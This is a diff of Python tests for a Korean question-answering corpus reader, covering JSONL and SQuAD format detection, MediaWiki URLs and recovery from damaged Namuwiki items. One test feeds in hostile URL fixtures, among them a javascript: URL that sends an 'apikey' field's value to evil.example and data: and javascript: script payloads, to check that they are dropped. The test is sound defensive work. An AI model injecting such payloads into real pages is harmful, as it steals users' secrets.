@@ -90,9 +90,9 @@ def test_jsonl_reader_reports_bad_lines_and_goes_on(tmp_path: Path):
     path = tmp_path / "d.jsonl"
     good = json.dumps({"id": "a", "title": "가", "text": "첫 문서의 본문이다."}, ensure_ascii=False).encode()
     path.write_bytes(b"\n".join([good, b"{not json", '{"id": "b", "title": "나"}'.encode(), b'{"id": "c", "title": "\xff", "text": "x"}',
-                                 json.dumps({"id": 7, "title": "다", "text": "둘째", "url": "u"}, ensure_ascii=False).encode(), b""]))
+                                 json.dumps({"id": 7, "title": "다", "text": "둘째", "url": "https://u.example/7"}, ensure_ascii=False).encode(), b""]))
     docs, skips = split(iter_jsonl(path))
-    assert [(d.id, d.title, d.url) for d in docs] == [("a", "가", ""), ("7", "다", "u")]
+    assert [(d.id, d.title, d.url) for d in docs] == [("a", "가", ""), ("7", "다", "https://u.example/7")]
     assert [(s.reason, s.position.split(",")[0]) for s in skips] == [("malformed_json", "line 2"), ("empty", "line 3"), ("invalid_utf8", "line 4")]
 
 
@@ -130,6 +130,43 @@ def test_detect_format(tmp_path: Path, repo: Path):
     assert detect_format(tmp_path / "s.json") == "squad"
     (tmp_path / "d.jsonl").write_text('{"id": "a", "title": "t", "text": "x"}\n', encoding="utf-8")
     assert detect_format(tmp_path / "d.jsonl") == "jsonl"
+
+
+def test_jsonl_with_a_first_line_over_the_peek_is_jsonl(tmp_path: Path):
+    """Before: the 64 KB peek cut the first record, which did not parse, so the file was taken for SQuAD and
+    refused with 'line 2: invalid JSON: Extra data'."""
+    long_text = "설날은 음력 1월 1일로 한국의 대표적인 명절이다. " * 2500  # about 70 KB of UTF-8
+    assert len(long_text.encode()) > 70_000
+    path = tmp_path / "long.json"  # the name does not say JSONL
+    with path.open("w", encoding="utf-8") as f:
+        f.write(json.dumps({"id": "a", "title": "설날", "text": long_text}, ensure_ascii=False) + "\n")
+        f.write(json.dumps({"id": "b", "title": "추석", "text": "추석은 한가위라고도 한다."}, ensure_ascii=False) + "\n")
+    assert detect_format(path) == "jsonl"
+    docs, skips = split(iter_jsonl(path))
+    assert [d.id for d in docs] == ["a", "b"] and skips == []
+    write_json(tmp_path / "one-line-squad.json", SQUAD)
+    assert detect_format(tmp_path / "one-line-squad.json") == "squad"
+
+
+def test_urls_that_are_not_http_are_dropped_at_read_time(tmp_path: Path):
+    hostile = "javascript:fetch('//evil.example/?k='+document.getElementById('apikey').value)"
+    rows = [{"id": "a", "title": "t", "text": "설날은 명절이다.", "url": hostile},
+            {"id": "b", "title": "t", "text": "설날은 명절이다.", "url": " JavaScript:alert(1)"},
+            {"id": "c", "title": "t", "text": "설날은 명절이다.", "url": "data:text/html,<script>alert(1)</script>"},
+            {"id": "d", "title": "t", "text": "설날은 명절이다.", "url": "https://ko.wikipedia.org/wiki/설날"}]
+    path = tmp_path / "u.jsonl"
+    path.write_text("".join(json.dumps(r, ensure_ascii=False) + "\n" for r in rows), encoding="utf-8")
+    docs, _ = split(iter_jsonl(path))
+    assert [d.url for d in docs] == ["", "", "", "https://ko.wikipedia.org/wiki/설날"]
+    xml = tmp_path / "w.xml"
+    xml.write_text(
+        '<mediawiki><siteinfo><base>javascript:alert(1)//wiki/대문</base></siteinfo>'
+        '<page><title>설날</title><ns>0</ns><id>1</id><revision><text>설날은 한국의 명절이다. 떡국을 먹는다.</text></revision></page>'
+        '</mediawiki>', encoding="utf-8")
+    from krqa.corpus.mediawiki import iter_mediawiki
+
+    docs, _ = split(iter_mediawiki(xml))
+    assert [d.url for d in docs] == ["https://ko.wikipedia.org/wiki/%EC%84%A4%EB%82%A0"]
 
 
 def _namu_bytes(n: int) -> tuple[bytes, list[int]]:
@@ -170,6 +207,22 @@ def test_namuwiki_malformed_items_cost_themselves_only(tmp_path: Path):
     assert [s.reason for s in skips] == ["malformed_json"] * 3
     assert [s.position.split(" at ")[0] for s in skips] == ["item 5", "item 9", "item 20"]
     assert skips[1].position == f"item 9 at file byte {s9}"
+
+
+@pytest.mark.parametrize("damage", ["byte", "key"])
+def test_namuwiki_damage_in_an_item_with_nested_objects_costs_that_item_only(tmp_path: Path, damage: str):
+    """Before: resync searched from inside the damaged item, landed on {"name": "b"} in its contributors and took
+    the array's ']' for the end of the dump: 4 documents of 40, no skip reported, exit 0."""
+    items = [{"namespace": "0", "title": f"문서{i}", "text": TEXT, "contributors": [{"name": "a"}, {"name": "b"}]} for i in range(1, 41)]
+    data = json.dumps(items, ensure_ascii=False).encode("utf-8")
+    at = data.index("문서5".encode())
+    data = data[:at] + b"\xff" + data[at + 1:] if damage == "byte" else data[:at - 3] + b"::" + data[at - 2:]
+    path = tmp_path / "nested.json"
+    path.write_bytes(data)
+    docs, skips = split(iter_namuwiki(path))
+    assert [d.title for d in docs] == [f"문서{i}" for i in range(1, 41) if i != 5]
+    assert [s.position.split(" at ")[0] for s in skips] == ["item 5"]
+    assert skips[0].reason == ("invalid_utf8" if damage == "byte" else "malformed_json")
 
 
 def test_namuwiki_bad_byte_in_bz2_keeps_later_items(tmp_path: Path):
